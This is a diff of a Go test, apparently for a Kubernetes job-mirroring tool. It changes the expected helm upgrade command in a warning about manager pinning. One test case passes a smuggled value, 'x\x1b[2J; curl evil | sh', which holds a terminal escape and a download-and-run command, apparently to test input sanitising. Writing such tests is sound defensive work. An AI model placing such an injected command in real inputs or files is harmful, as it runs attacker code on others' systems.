@@ -285,7 +285,7 @@ func TestCheckPinned(t *testing.T) {
 		{name: "pinned to this manager", sa: pinnedTo("0123456789abcdef"), manager: ours},
 		{name: "not pinned", sa: pinnedTo("none"), manager: ours,
 			wantWarn: "is not pinned to this manager (ID 0123456789abcdef, of namespace jobferry-system): its admission policies let the manager identity write Jobs, and relabel namespaces, in any jobferry manager's namespaces there. Pin it with\n" +
-				"  helm upgrade jf-worker <chart> -n jobferry-system --kube-context gpu-east --kubeconfig /home/me/east.kubeconfig --reset-then-reuse-values --set-string managerIdentity.managerID=0123456789abcdef --set workerName=worker-2"},
+				"  helm upgrade jf-worker <chart> -n jobferry-system --kube-context gpu-east --kubeconfig /home/me/east.kubeconfig --reset-then-reuse-values --set-string managerIdentity.managerID=0123456789abcdef --set-string workerName=worker-2"},
 		{name: "pinned to another manager", sa: pinnedTo("fedcba9876543210"), manager: ours,
 			wantErr: "is pinned to manager fedcba9876543210, not to this one (ID 0123456789abcdef, of namespace jobferry-system: is --jobferry-namespace the manager's?): its admission policies would refuse every mirror this manager creates there. This manager needs an identity of its own there; pinning this one to it instead (helm upgrade jf-worker"},
 		{name: "pinned to no ID", sa: pinnedTo("x\x1b[2J; curl evil | sh"), manager: ours,
